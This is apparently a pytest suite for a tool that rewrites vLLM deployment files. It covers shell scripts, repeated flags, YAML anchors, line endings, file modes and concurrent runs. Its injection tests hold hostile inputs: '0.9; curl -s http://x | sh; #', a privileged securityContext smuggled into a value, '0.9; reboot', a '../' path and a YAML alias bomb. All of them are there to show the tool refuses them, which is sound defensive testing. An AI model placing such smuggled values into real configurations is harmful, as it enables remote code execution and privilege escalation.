"""`vllm-fit apply` on the shapes that broke it before (issue 28): scripts in block scalars and strings,
`$(VAR)`, repeated flags, anchors and merge keys, byte-order marks and CR line ends, file modes,
read-only checkouts, a full disk on the second file, two runs at once, alias bombs, and SOURCE values
that try to inject text. Where a file runs a command, the edited command is run by /bin/sh with stub
servers and parsed by vLLM's own parser (tests/deploy_oracle.py)."""

from __future__ import annotations

import json
import os
import resource
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any, Dict, List

import pytest
from deploy_oracle import container_argv, container_at, run_recorded, vllm_args, vllm_parse

from vllm_fit import cli
from vllm_fit.deploy import apply as apply_module
from vllm_fit.files import atomic, paths


def fit(folder: Path, length: int = 16384, util: float = 0.9, model: str = "org/m", name: str = "") -> Path:
    path = folder / ("fit-%s-%d.yaml" % (name or "x", length))
    path.write_text("# vllm: 0.32.0\n%smodel: %s\nmax-model-len: %d\ngpu-memory-utilization: %s\n"
                    % ("# name: %s\n" % name if name else "", model, length, util))
    return path


def apply(folder: Path, *argv: str, **kwargs: Any) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "vllm_fit", "apply", *argv], cwd=str(folder), capture_output=True,
                          text=True, timeout=kwargs.pop("timeout", 120), **kwargs)


def write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.write_bytes(text.encode("utf-8"))
    return path


SH_BLOCK = """apiVersion: apps/v1
kind: Deployment
metadata: {name: a}
spec:
  template:
    spec:
      containers:
        - name: vllm
          image: vllm/vllm-openai:v0.32.0
          command: ["/bin/sh", "-c"]
          args:
            - |
              echo starting
              exec vllm serve org/m \\
                --max-model-len 4096 \\
                "$@"
            - sh
            - --port=8000
"""
BASH_LC = """apiVersion: v1
kind: Pod
metadata: {name: p}
spec:
  containers:
    - name: head
      image: rayproject/ray:2.40.0
      command: ["/bin/bash", "-lc", "--"]
      args: ["ray start --head && vllm serve org/m --max-model-len 4096"]
"""
ENV_VAR = """apiVersion: v1
kind: Pod
metadata: {name: p}
spec:
  containers:
    - name: vllm
      image: vllm/vllm-openai:v0.32.0
      env:
        - {name: LEN, value: "4096"}
      args: ["org/m", "--max-model-len", "$(LEN)"]
"""
ONE_WORD_OPTIONS = """apiVersion: v1
kind: Pod
metadata: {name: p}
spec:
  containers:
    - name: vllm
      image: vllm/vllm-openai:v0.32.0
      command: [vllm, serve]
      args: [org/m, --max-model-len, "4096", -O3, --max-model-len, "-1", -tp=1, --max-model-len, "2048", -cc.mode=3,
             --model-impl, auto]
"""
"""`-O3`, `-tp=1` and `-cc.mode=3` are one word each: the last --max-model-len is the one vLLM keeps (a local
fuzz of Kubernetes containers found `-O3` taking the next flag as its value, so an earlier one was edited)."""
SCRIPTS = {"sh-block": (SH_BLOCK, ["spec", "template", "spec", "containers", 0]),
           "bash-lc": (BASH_LC, ["spec", "containers", 0]), "env-var": (ENV_VAR, ["spec", "containers", 0]),
           "one-word-options": (ONE_WORD_OPTIONS, ["spec", "containers", 0])}


@pytest.mark.vllm
@pytest.mark.parametrize("case", sorted(SCRIPTS))
def test_the_edited_command_gives_vllm_the_fit(tmp_path, case):
    """A `- |` script passing "$@", `bash -lc --` with `&&`, a value from $(VAR), options of one word between
    repeated flags: run by sh, parsed by vLLM."""
    pytest.importorskip("vllm")
    text, keys = SCRIPTS[case]
    target = write(tmp_path, "d.yaml", text)
    done = apply(tmp_path, str(fit(tmp_path, 16384, 0.87)), "--to", "d.yaml")
    assert done.returncode == 0, done.stderr
    after = target.read_text()
    entry = ("vllm", "serve") if case == "env-var" else ()
    runs = [vllm_args(r) for r in run_recorded(container_argv(container_at(after, 0, keys), entry), tmp_path)]
    servers = [r for r in runs if r is not None]
    assert len(servers) == 1, runs
    parsed = vllm_parse(servers[0])
    assert (parsed.model_tag, parsed.max_model_len, parsed.gpu_memory_utilization) == ("org/m", 16384, 0.87)
    assert apply(tmp_path, str(fit(tmp_path, 16384, 0.87)), "--to", "d.yaml", "--check").returncode == 0


def test_a_repeated_flag_is_edited_where_argparse_reads_it(tmp_path):
    target = write(tmp_path, "c.yaml", "services:\n  v:\n    image: vllm/vllm-openai:latest\n"
                                       "    command: org/m --max-model-len 4096 --max-model-len=8192\n")
    assert apply(tmp_path, str(fit(tmp_path, 8192, 0.9)), "--to", "c.yaml", "--check").returncode == 1
    assert apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml").returncode == 0
    assert target.read_text().endswith("command: org/m --max-model-len 4096 --max-model-len=16384"
                                       " --gpu-memory-utilization 0.9\n")


@pytest.mark.vllm
@pytest.mark.parametrize("args", [
    ["org/m", "--max-model-len", "4096", "-O3", "--max-model-len", "8000"],
    ["org/m", "-O", "3", "--max-model-len", "8000", "-tp=1", "--max-model-len=9000"],
    ["org/m", "--max-model-len", "1k", "-cc.mode", "3", "-Odecode", "--max-model-len", "-1"],
    ["org/m", "--compilation-config.mode=3", "--max_model_len", "77", "--served-model-name", "-", "b"],
])
def test_the_tool_reads_the_length_vllm_keeps(args):
    """The last --max-model-len as this tool reads a command line is the one vLLM's own parser keeps."""
    pytest.importorskip("vllm")
    from vllm_fit.deploy.vllm_args import parse
    from vllm_fit.deploy.words import Word

    last = parse([Word.made(text) for text in args]).last("--max-model-len")
    assert last is not None and last.value is not None
    assert vllm_parse(args).max_model_len == vllm_parse(["org/m", "--max-model-len", last.value]).max_model_len


@pytest.mark.vllm
def test_vllm_serve_with_several_models_is_not_matched_by_the_last(tmp_path):
    """`vllm serve --model A ... --model B` serves A (vLLM's CLI moves the first --model into the positional
    slot; older versions kept the last): the model is unknown, so a fit for B is not written there."""
    pytest.importorskip("vllm")
    from deploy_oracle import vllm_serve_model

    args = ["--model", "org/other", "--max-model-len", "4096", "--model", "org/m"]
    assert vllm_serve_model(args) == "org/other"
    text = "services:\n  v:\n    image: vllm/vllm-openai:latest\n    command: %s\n" % " ".join(args)
    target = write(tmp_path, "c.yaml", text)
    done = apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml")
    assert done.returncode == 2 and "several --model values" in done.stderr and target.read_text() == text


@pytest.mark.vllm
@pytest.mark.parametrize("image, refused", [("vllm/vllm-openai:v0.32.0", "its model twice"),
                                            ("vllm/vllm-openai:v0.11.1", "its model twice"),
                                            ("vllm/vllm-openai:v0.9.2", "which vLLM 0.9.2 refuses"),
                                            ("vllm/vllm-openai:v0.5.4", ""), ("me/vllm:1", "its model twice")])
def test_vllm_serve_given_its_model_twice_is_refused_where_vllm_refuses_it(tmp_path, image, refused):
    """`command: [vllm, serve, org/m]` with `args: [--model, org/m]`: from 0.11.1 vLLM moves --model into the
    positional slot and refuses the second model (vLLM 0.32's serve CLI asserted here), 0.5.5-0.11.0 refuse the
    word --model under vllm serve (0.9.2's parser: tests/test_real_vllm_versions.py); before 0.5.5 the positional
    was served and the fit is written. A vLLM image's tag says the version, else the fit's (0.32.0 here)."""
    pytest.importorskip("vllm")
    from deploy_oracle import vllm_serve_model

    with pytest.raises(SystemExit):
        vllm_serve_model(["org/m", "--model", "org/m"])
    text = ("apiVersion: v1\nkind: Pod\nmetadata: {name: v}\nspec:\n  containers:\n  - name: vllm\n    image: %s\n"
            "    command: [vllm, serve, org/m]\n    args: [--model, org/m, --max-model-len, \"4096\"]\n" % image)
    target = write(tmp_path, "pod.yaml", text)
    done = apply(tmp_path, str(fit(tmp_path)), "--to", "pod.yaml", "--allow-mismatch")
    if refused:
        assert done.returncode == 2 and refused in done.stderr and target.read_text() == text, done.stderr
        assert len(done.stderr.strip().splitlines()) == 1
    else:
        assert done.returncode == 0 and '"16384"' in target.read_text(), done.stderr


@pytest.mark.parametrize("version, refused", [("0.32.0", ()), ("0.11.1", ()), ("0.11.0", ("--model",)),
                                              ("0.8.3", ("--model",)), ("0.8.2", ("--model", "--model=")),
                                              ("0.5.5", ("--model", "--model=")), ("0.5.4", ("--model", "--model="))])
def test_vllm_serve_given_its_model_by_option_is_refused_on_the_releases_that_refuse_it(tmp_path, version, refused):
    """`vllm serve --model org/m` (no positional): 0.5.5-0.11.0 raise "With `vllm serve`, you should provide the
    model as a positional argument" (from 0.8.3 only for the word `--model`, not `--model=org/m`), before 0.8.3 the
    positional is required; from 0.11.1 --model is moved into the positional slot (read in each release's
    FlexibleArgumentParser and serve command; 0.9.2 and 0.28's parsers in tests/test_real_vllm_versions.py)."""
    for form in ("--model", "--model="):
        words = "[%s]" % (form + "org/m" if form.endswith("=") else "--model, org/m")
        text = ("apiVersion: v1\nkind: Pod\nmetadata: {name: v}\nspec:\n  containers:\n  - name: vllm\n"
                "    image: me/vllm:1\n    command: [vllm, serve]\n    args: %s\n" % words)
        target = write(tmp_path, "pod.yaml", text)
        path = fit(tmp_path)
        path.write_text(path.read_text().replace("# vllm: 0.32.0", "# vllm: %s" % version))
        done = apply(tmp_path, str(path), "--to", "pod.yaml")
        if form in refused:
            assert done.returncode == 2 and target.read_text() == text, (form, done.stderr)
            assert ("vLLM %s" % version) in done.stderr and len(done.stderr.strip().splitlines()) == 1
        else:
            assert done.returncode == 0 and "16384" in target.read_text(), (form, done.stderr)


def test_a_vllm_image_runs_the_api_server_module_up_to_0_11_0(tmp_path):
    """vllm/vllm-openai's ENTRYPOINT is the api_server module up to 0.11.0 and `vllm serve` from 0.11.1
    (docker/Dockerfile of each release's source archive): a positional model is served only by the newer one,
    and `--model` is what the older one reads."""
    for tag, args, written in (("v0.11.0", "[org/m, --max-model-len, '4096']", False),
                               ("v0.10.2", "[--model, org/m, --max-model-len, '4096']", True),
                               ("v0.11.1", "[org/m, --max-model-len, '4096']", True),
                               ("v0.11.1", "[--model, org/m, --max-model-len, '4096']", True)):
        text = ("apiVersion: v1\nkind: Pod\nmetadata: {name: v}\nspec:\n  containers:\n  - name: vllm\n"
                "    image: vllm/vllm-openai:%s\n    args: %s\n" % (tag, args))
        target = write(tmp_path, "pod.yaml", text)
        done = apply(tmp_path, str(fit(tmp_path)), "--to", "pod.yaml", "--allow-mismatch")
        assert (done.returncode == 0 and "16384" in target.read_text()) is written, (tag, args, done.stderr)
        if not written:
            assert done.returncode == 2 and target.read_text() == text
            assert "does not take the positional org/m as its model; give it with --model" in done.stderr


OWN_PROGRAM = [
    ("pod.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: v}\nspec:\n  containers:\n  - name: vllm\n"
     "    image: nvcr.io/nvidia/pytorch:24.05-py3\n    args: [python3, -m, vllm.entrypoints.openai.api_server,"
     " --model, org/m, --max-model-len, '4096']\n"),
    ("pod.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: v}\nspec:\n  containers:\n  - name: vllm\n"
     "    image: python:3.12\n    args: [sh, -c, 'pip install vllm && vllm serve org/m --max-model-len 4096']\n"),
    ("compose.yaml", "services:\n  llm:\n    image: nvcr.io/nvidia/pytorch:24.05-py3\n"
     "    command: vllm serve org/m --max-model-len 4096\n"),
    ("Dockerfile", "FROM nvcr.io/nvidia/pytorch:24.05-py3\nRUN pip install vllm\n"
     'CMD ["python3", "-m", "vllm.entrypoints.openai.api_server", "--model", "org/m", "--max-model-len", "4096"]\n'),
    ("run.sh", "#!/bin/bash\ndocker run --gpus all nvcr.io/nvidia/pytorch:24.05-py3 \\\n"
     "  python3 -m vllm.entrypoints.openai.api_server --model org/m --max-model-len 4096\n"),
]


@pytest.mark.parametrize("name, text", OWN_PROGRAM, ids=["pod-args", "pod-sh-c", "compose", "dockerfile", "docker-run"])
def test_arguments_that_name_their_own_program_are_run_as_they_are_on_other_images(tmp_path, name, text):
    """An image other than vLLM's (NVIDIA's PyTorch, Vertex AI's pytorch-vllm-serve) given `python -m vllm...`,
    `vllm serve` or `sh -c` as its arguments runs them (the usual `exec "$@"` entrypoint), not `vllm serve python
    ...`: the server is found and its own length edited (before, its model read as `python3`, or no server)."""
    target = write(tmp_path, name, text)
    done = apply(tmp_path, str(fit(tmp_path)), "--to", name)
    assert done.returncode == 0, done.stderr
    after = target.read_text()
    assert "4096" not in after and after.count("16384") == 1 and "gpu-memory-utilization" in after, after
    check = apply(tmp_path, str(fit(tmp_path)), "--to", name, "--check")
    assert check.returncode == 0, check.stdout + check.stderr


def test_a_script_running_vllm_through_a_bash_array_is_refused_as_unread(tmp_path):
    """`ARGS=(serve org/m ...); exec vllm "${ARGS[@]}"` (a public GLM launcher's shape): arrays are not followed,
    so nothing is written and the line naming the model is pointed at, with a guess that fits a script."""
    text = ("#!/bin/bash\nARGS=(serve org/m --max-model-len 8192\n  --gpu-memory-utilization 0.87)\n"
            'exec vllm "${ARGS[@]}"\n')
    target = write(tmp_path, "serve.sh", text)
    done = apply(tmp_path, str(fit(tmp_path)), "--to", "serve.sh")
    assert done.returncode == 2 and target.read_text() == text and done.stderr.count("\n") == 1, done.stderr
    assert "serve.sh, line 2 names org/m, but not in a vLLM command line vllm-fit reads (a bash array" in done.stderr


def test_a_flag_unknown_to_the_table_does_not_take_the_next_flag_as_its_value(tmp_path):
    """A newer vLLM's flag (not in the option table) followed by the flag that wins: that one is edited."""
    target = write(tmp_path, "c.yaml", "services:\n  v:\n    image: vllm/vllm-openai:latest\n    command: org/m"
                                       " --max-model-len 4096 --enable-new-thing --max-model-len 8192\n")
    assert apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml").returncode == 0
    assert target.read_text().endswith("command: org/m --max-model-len 4096 --enable-new-thing --max-model-len 16384"
                                       " --gpu-memory-utilization 0.9\n")


ONE_WORD_OPTIONS = """apiVersion: apps/v1
kind: Deployment
metadata: {name: vllm-qwen}
spec:
  template:
    spec:
      containers:
      - name: vllm
        image: vllm/vllm-openai:latest
        args:
          - "--model"
          - "org/m"
          - %s
"""
"""The args of a public Kubernetes how-to (a speculative-decoding post, found with the search tool's find_string
'- "--gpu-memory-utilization 0.9'): each option and its value written as one list item."""


@pytest.mark.vllm
@pytest.mark.parametrize("item, word", [
    ('"--tensor-parallel-size 1"', "--tensor-parallel-size 1"),
    ('"--max-model-len 4096"', "--max-model-len 4096"),
    ('"--max-model-len=4096 --gpu-memory-utilization=0.9"', "4096 --gpu-memory-utilization=0.9"),
])
def test_an_option_and_its_value_in_one_word_are_refused_naming_the_word(tmp_path, item, word):
    """vLLM's parser reads "--tensor-parallel-size 1" as one stray argument (vllm serve refuses to start) and
    "4096 --gpu-memory-utilization=0.9" as a length it cannot read: apply names the word, exit 2, writes
    nothing (it appended the fit after the first and replaced the second whole, dropping what it held)."""
    pytest.importorskip("vllm")
    from deploy_oracle import vllm_serve_model

    text = ONE_WORD_OPTIONS % item
    args = container_argv(container_at(text, 0, ["spec", "template", "spec", "containers", 0]))
    with pytest.raises(SystemExit):
        vllm_serve_model(args)
    target = write(tmp_path, "d.yaml", text)
    done = apply(tmp_path, str(fit(tmp_path)), "--to", "d.yaml")
    assert done.returncode == 2 and repr(word) in done.stderr and len(done.stderr.strip().splitlines()) == 1
    assert target.read_text() == text


@pytest.mark.parametrize("raw, expected", [
    (b"\xef\xbb\xbfmodel: org/m\r\nmax_model_len: 4096\r\ntensor_parallel_size: 1\r\n",
     b"\xef\xbb\xbfmodel: org/m\r\nmax_model_len: 16384\r\ntensor_parallel_size: 1\r\ngpu_memory_utilization: 0.9\r\n"),
    (b"model: org/m\rmax-model-len: 4096\renforce-eager: true\r",
     b"model: org/m\rmax-model-len: 16384\renforce-eager: true\rgpu-memory-utilization: 0.9\r"),
    (b"\xef\xbb\xbfmodel: org/m\n", b"\xef\xbb\xbfmodel: org/m\nmax-model-len: 16384\ngpu-memory-utilization: 0.9\n"),
])
def test_byte_order_marks_and_line_ends_are_kept(tmp_path, raw, expected):
    """A --config YAML keeps its BOM, its CRLF or CR line ends and its key spelling; a missing key is added."""
    (tmp_path / "c.yaml").write_bytes(raw)
    done = apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml")
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "c.yaml").read_bytes() == expected


ANCHORED = """x-args: &args
  - --model
  - org/m
  - --max-model-len
  - "4096"
services:
  a:
    image: vllm/vllm-openai:latest
    command: *args
  b:
    image: vllm/vllm-openai:latest
    command: *args
"""


def test_servers_sharing_an_anchored_list_take_one_fit_or_none(tmp_path):
    write(tmp_path, "c.yaml", ANCHORED)
    done = apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml")
    assert done.returncode == 2 and "matches 2 servers" in done.stderr
    index = tmp_path / "out"
    (index / "configs").mkdir(parents=True)
    for name, length in (("a", 16384), ("b", 8192)):
        (index / "configs" / ("%s.yaml" % name)).write_text(fit(tmp_path, length, 0.9, name=name).read_text())
    (index / "index.json").write_text(json.dumps({"entries": [
        {"name": n, "status": "fit", "config": "configs/%s.yaml" % n} for n in ("a", "b")]}))
    done = apply(tmp_path, "out", "--to", "c.yaml")
    assert done.returncode == 2 and "share through a YAML alias" in done.stderr
    assert (tmp_path / "c.yaml").read_text() == ANCHORED
    (index / "configs" / "b.yaml").write_text(fit(tmp_path, 16384, 0.9, name="b").read_text())
    done = apply(tmp_path, "out", "--to", "c.yaml")
    assert done.returncode == 0, done.stderr
    assert '  - "16384"\n  - --gpu-memory-utilization\n  - "0.9"\nservices:' in (tmp_path / "c.yaml").read_text()


MERGED = """x-base: &base
  image: vllm/vllm-openai:latest
  command: ["--model", "org/m", "--max-model-len", "4096"]
services:
  a:
    <<: *base
  other:
    <<: *base
    command: ["--model", "org/other"]
"""


def test_a_merge_key_base_is_edited_when_only_the_fitted_server_reads_it(tmp_path):
    write(tmp_path, "c.yaml", MERGED)
    assert apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml").returncode == 0
    assert '  command: ["--model", "org/m", "--max-model-len", "16384", "--gpu-memory-utilization", "0.9"]' in \
        (tmp_path / "c.yaml").read_text()
    shared = MERGED.replace('    command: ["--model", "org/other"]\n', '    command: ["--model", "org/other"]\n'
                            "  third:\n    <<: *base\n    container_name: third\n")
    write(tmp_path, "d.yaml", shared)
    index = tmp_path / "idx"
    (index / "c").mkdir(parents=True)
    (index / "c" / "a.yaml").write_text(fit(tmp_path, name="a").read_text())
    (index / "index.json").write_text(json.dumps({"entries": [{"name": "a", "status": "fit", "config": "c/a.yaml"},
                                                              {"name": "third", "status": "error"}]}))
    done = apply(tmp_path, "idx", "--to", "d.yaml")
    assert done.returncode == 2 and "services.third" in done.stderr, done.stderr
    assert (tmp_path / "d.yaml").read_text() == shared


@pytest.mark.parametrize("text, words", [
    ("apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n    - name: v\n"
     "      image: vllm/vllm-openai\n"
     "      envFrom: [{configMapRef: {name: cm}}]\n      args: [org/m, --max-model-len, $(LEN)]\n",
     "set from $(LEN) (perhaps from envFrom)"),
    ("services:\n  v:\n    image: vllm/vllm-openai:latest\n    command: org/m --max-model-len ${LEN:-4096}\n",
     "set from ${LEN:-4096} (set where Compose runs)"),
    ("services:\n  v:\n    image: vllm/vllm-openai:latest\n    command: 'org/m --x \"unclosed'\n",
     "services.v: its command has an unclosed double quote"),
])
def test_values_from_outside_the_file_are_refused_naming_them(tmp_path, text, words):
    write(tmp_path, "c.yaml", text)
    done = apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml")
    assert done.returncode == 2 and words in done.stderr and done.stderr.count("\n") == 1, done.stderr
    assert (tmp_path / "c.yaml").read_text() == text


@pytest.mark.parametrize("args", [
    '[org/m, --max-model-len, $(LEN), --max-num-batched-tokens, $(LEN)]',
    '["vllm serve org/m --max-model-len ${LEN} --max-num-batched-tokens ${LEN}"]',
])
def test_a_variable_the_length_shares_with_another_option_is_refused_naming_both_values(tmp_path, args):
    command = '      command: ["/bin/sh", "-c"]\n' if "vllm serve" in args else ""
    text = ("apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n    - name: v\n"
            "      image: vllm/vllm-openai:v0.32.0\n%s      args: %s\n"
            "      env: [{name: LEN, value: \"8192\"}]\n" % (command, args))
    write(tmp_path, "c.yaml", text)
    done = apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml")
    assert done.returncode == 2 and done.stderr.count("\n") == 1, done.stderr
    assert "would also change --max-num-batched-tokens 8192 -> 16384" in done.stderr, done.stderr
    assert (tmp_path / "c.yaml").read_text() == text


def test_an_unreadable_unrelated_service_does_not_block_the_file(tmp_path):
    text = ("services:\n  broken:\n    image: vllm/vllm-openai:latest\n    command: 'other --x \"unclosed'\n"
            "  v:\n    image: vllm/vllm-openai:latest\n    command: >\n      org/m\n      --max-model-len 4096\n")
    write(tmp_path, "c.yaml", text)
    done = apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml")
    assert done.returncode == 0, done.stderr
    assert "services.broken: left alone: its command has an unclosed double quote" in done.stderr
    assert (tmp_path / "c.yaml").read_text().endswith("      --max-model-len 16384 --gpu-memory-utilization 0.9\n")


def test_the_file_keeps_its_mode_and_check_needs_no_write_permission(tmp_path, monkeypatch, capsys):
    target = write(tmp_path, "c.yaml", "services:\n  v:\n    image: vllm/vllm-openai:latest\n"
                                       "    environment: [HF_TOKEN=hf_secret]\n    command: [org/m]\n")
    target.chmod(0o600)
    assert apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml").returncode == 0
    assert target.stat().st_mode & 0o7777 == 0o600
    fits = [str(fit(tmp_path)), str(fit(tmp_path, 8192))]
    checkout = tmp_path / "ro"
    checkout.mkdir()
    write(checkout, "c.yaml", target.read_text())
    checkout.chmod(0o555)
    try:
        if not os.access(checkout, os.W_OK):  # an ordinary user: the folder really refuses writes
            assert apply(checkout, fits[0], "--to", "c.yaml", "--check").returncode == 0
            assert apply(checkout, fits[1], "--to", "c.yaml", "--check").returncode == 1
    finally:
        checkout.chmod(0o755)

    def refuse(*args: Any) -> None:  # root writes anywhere: every write check refuses instead
        raise AssertionError("--check tested whether it could write")

    monkeypatch.setattr(paths, "_writable_folder", refuse)
    monkeypatch.setattr(atomic, "prepare", refuse)
    monkeypatch.setattr(apply_module, "prepare", refuse)  # where apply looks it up
    monkeypatch.chdir(checkout)
    for path, code in zip(fits, (0, 1)):
        with pytest.raises(SystemExit) as exited:
            cli.main(["apply", path, "--to", "c.yaml", "--check"])
        assert exited.value.code == code, capsys.readouterr()


def _limit_file_size() -> None:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG instead
    resource.setrlimit(resource.RLIMIT_FSIZE, (2000, 2000))


def test_a_full_disk_on_the_second_file_changes_no_file(tmp_path):
    small = write(tmp_path, "a.yaml", "services:\n  v:\n    image: vllm/vllm-openai:latest\n    command: [org/m]\n")
    big_text = "# " + "x" * 3000 + "\nservices:\n  v:\n    image: vllm/vllm-openai:latest\n    command: [org/m]\n"
    big = write(tmp_path, "b.yaml", big_text)
    done = apply(tmp_path, str(fit(tmp_path)), "--to", "a.yaml", "b.yaml", preexec_fn=_limit_file_size)
    assert done.returncode == 3 and "cannot write b.yaml" in done.stderr and "no file was changed" in done.stderr
    assert small.read_text().endswith("command: [org/m]\n") and big.read_text() == big_text
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no temporary left


def test_two_runs_on_one_file_keep_both_updates(tmp_path):
    text = ("services:\n" + "".join("  s%d:\n    image: vllm/vllm-openai:latest\n    command: [org/m%d]\n" % (i, i)
                                    for i in range(2)))
    target = write(tmp_path, "c.yaml", text)
    fits = [fit(tmp_path, 1000 + i, 0.9, model="org/m%d" % i) for i in range(2)]
    runs = [subprocess.Popen([sys.executable, "-m", "vllm_fit", "apply", str(f), "--to", "c.yaml"], cwd=str(tmp_path),
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE) for f in fits]
    assert [r.wait(timeout=120) for r in runs] == [0, 0]
    after = target.read_text()
    assert 'command: [org/m0, --max-model-len, "1000"' in after and 'command: [org/m1, --max-model-len, "1001"' in after


def test_to_takes_several_files_after_one_flag(tmp_path):
    for name in ("a.yaml", "b.yaml"):
        write(tmp_path, name, "services:\n  v:\n    image: vllm/vllm-openai:latest\n    command: [org/m]\n")
    done = apply(tmp_path, str(fit(tmp_path)), "--to", "a.yaml", "b.yaml")
    assert done.returncode == 0, done.stderr
    assert all("16384" in (tmp_path / n).read_text() for n in ("a.yaml", "b.yaml"))


BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    "%s: &%s [%s]\n" % (chr(98 + i), chr(98 + i), ", ".join(["*%s" % chr(97 + i)] * 9)) for i in range(8))


@pytest.mark.parametrize("argv", [[], ["--check"]])
def test_an_alias_bomb_is_refused_quickly(tmp_path, argv):
    write(tmp_path, "c.yaml", BOMB + "services:\n  v:\n    image: vllm/vllm-openai\n    command: [org/m]\n")
    started = time.monotonic()
    done = apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml", *argv, timeout=60)
    assert done.returncode == 2 and "alias bomb" in done.stderr and done.stderr.count("\n") == 1, done.stderr
    assert time.monotonic() - started < 30


def test_a_self_containing_alias_is_refused(tmp_path):
    write(tmp_path, "c.yaml", "a: &a [1, *a]\n")
    done = apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml")
    assert done.returncode == 2 and "contains itself" in done.stderr


def _report(engine_args: Dict[str, Any]) -> Dict[str, Any]:
    base = json.loads((Path(__file__).parent / "data" / "report-fit-explore.json").read_text())
    base["fit"]["engine_args"] = dict(base["fit"]["engine_args"], **engine_args)
    return base


INJECTIONS: List[Dict[str, Any]] = [
    {"gpu_memory_utilization": "0.9; curl -s http://x | sh; #"},
    {"gpu_memory_utilization": "0.9\nsecurityContext: {privileged: true}"},
    {"max_model_len": -5}, {"max_model_len": 1e12}, {"max_model_len": True}, {"max_model_len": 65536.9},
    {"max_model_len": "4096 --x"}, {"gpu_memory_utilization": 7}, {"gpu_memory_utilization": [0.9]},
    {"gpu_memory_utilization": None, "kv_cache_memory_bytes": -1}, {"model": "org/m\nx: 1"}, {"model": ["org/m"]},
]


@pytest.mark.parametrize("engine_args", INJECTIONS, ids=[str(i) for i in range(len(INJECTIONS))])
def test_report_values_that_are_not_numbers_the_tool_formats_are_refused(tmp_path, engine_args):
    deployment = "services:\n  v:\n    image: vllm/vllm-openai:latest\n    command: [org/m]\n"
    write(tmp_path, "c.yaml", deployment)
    report = _report(dict({"model": "org/m"}, **engine_args))
    (tmp_path / "r.json").write_text(json.dumps(report))
    done = apply(tmp_path, "r.json", "--to", "c.yaml")
    assert done.returncode == 2 and done.stderr.count("\n") == 1 and "Traceback" not in done.stderr, done.stderr
    assert (tmp_path / "c.yaml").read_text() == deployment


@pytest.mark.parametrize("entry, config", [
    ({"name": "a\nb", "status": "fit", "config": "c.yaml"}, "model: org/m\nmax-model-len: 100\n"
                                                            "gpu-memory-utilization: 0.9\n"),
    ({"name": "a", "status": "fit", "config": "../c.yaml"}, "model: org/m\nmax-model-len: 100\n"
                                                            "gpu-memory-utilization: 0.9\n"),
    ({"name": "a", "status": "fit", "config": "c.yaml"}, "model: org/m\nmax-model-len: 100\n"
                                                         "gpu-memory-utilization: '0.9; reboot'\n"),
    ({"name": "a", "status": "fit", "config": "c.yaml"}, "model: org/m\nmax-model-len: 1.5e3\n"
                                                         "gpu-memory-utilization: 0.9\n"),
])
def test_index_entries_are_checked_like_any_input(tmp_path, entry, config):
    deployment = "services:\n  a:\n    image: vllm/vllm-openai:latest\n    command: [org/m]\n"
    write(tmp_path, "d.yaml", deployment)
    (tmp_path / "idx").mkdir()
    (tmp_path / "idx" / "c.yaml").write_text(config)
    (tmp_path / "idx" / "index.json").write_text(json.dumps({"entries": [entry]}))
    done = apply(tmp_path, "idx", "--to", "d.yaml")
    assert done.returncode == 2 and done.stderr.count("\n") == 1, done.stderr
    assert (tmp_path / "d.yaml").read_text() == deployment


@pytest.mark.parametrize("values, expected", [
    ("      vllmConfig:\n        maxModelLen: 4096 # tuned\n",
     "      vllmConfig:\n        maxModelLen: 8192 # tuned\n"
     "        extraArgs: [\"--kv-cache-memory-bytes\", \"8589934592\"]\n"),
    ("      vllmConfig: {maxModelLen: 4096, extraArgs: []}\n",
     "      vllmConfig: {maxModelLen: 8192, extraArgs: [\"--kv-cache-memory-bytes\", \"8589934592\"]}\n"),
])
def test_the_kv_size_goes_into_extra_args_which_is_created_if_absent(tmp_path, values, expected):
    """production-stack has no vllmConfig key for kv-cache-memory-bytes: extraArgs carries it."""
    head = "servingEngineSpec:\n  modelSpec:\n    - name: a\n      modelURL: org/m\n"
    write(tmp_path, "v.yaml", head + values)
    (tmp_path / "fit.yaml").write_text("# vllm: 0.32.0\nmodel: org/m\nmax-model-len: 8192\n"
                                       "kv-cache-memory-bytes: 8589934592\n")
    done = apply(tmp_path, "fit.yaml", "--to", "v.yaml")
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "v.yaml").read_text() == head + expected


def _setup_differences(args: List[str], fit_setup: Dict[str, Any], skip: tuple = ()) -> List[str]:
    from vllm_fit.deploy.deployment import read_deployment
    from vllm_fit.deploy.setup_match import differences

    text = "kind: Pod\nspec:\n  containers:\n  - name: v\n    image: vllm/vllm-openai:v0.32.0\n" \
           "    env: [{name: TP, valueFrom: {fieldRef: {fieldPath: x}}}]\n    args: %s\n" % json.dumps(["m", *args])
    server = read_deployment(text, "pod.yaml", Path("pod.yaml")).servers[0]
    return [d.text for d in differences(server, fit_setup, skip)]


@pytest.mark.parametrize("args, fit_setup, found", [
    (["--dtype", "half"], {"tensor_parallel_size": 1, "dtype": "bfloat16"}, []),  # 16 bits either way
    (["--dtype=float32"], {"tensor_parallel_size": 1}, ["--dtype float32 here, auto (not set) in the fit"]),
    (["--kv-cache-dtype", "fp8_e5m2"], {"tensor_parallel_size": 1, "kv_cache_dtype": "fp8"}, []),
    (["--kv-cache-dtype", "auto", "--dtype", "float32"], {"tensor_parallel_size": 1, "dtype": "float32"}, []),
